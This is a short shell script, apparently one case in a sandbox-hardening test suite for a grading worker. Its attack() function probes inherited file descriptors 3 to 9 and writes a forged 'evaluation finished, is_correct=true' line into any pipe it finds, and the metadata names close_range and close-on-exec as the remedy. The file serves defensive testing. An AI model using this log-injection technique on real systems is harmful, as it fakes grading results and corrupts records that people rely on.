# SPDX-License-Identifier: MIT
# shellcheck shell=sh disable=SC2034,SC1091,SC3023
#
# Goal:  a line in the worker's log that the worker never wrote.
# Means: echo to each number from 3 to 9, until one takes it: the log's pipe was left open. Nobody
#        downstream can tell whose line it is.

effect="a line that the worker did not write is in its log"
means="echo to an inherited pipe"
oracle=description
id=FDS-02
attack_id="T1565.001, CWE-403, CWE-117"
remedy="close_range(2) before the student's program starts; close-on-exec in the worker"
refs="close_range(2)"

attack() {
	attempting
	for fd in 3 4 5 6 7 8 9; do
		[ -p "/proc/self/fd/$fd" ] || continue
		eval "echo 'evaluation finished, is_correct=true' >&$fd" && return
	done 2>/dev/null
	denied "no pipe was inherited"
}

. "${0%/*}/../attack.sh"
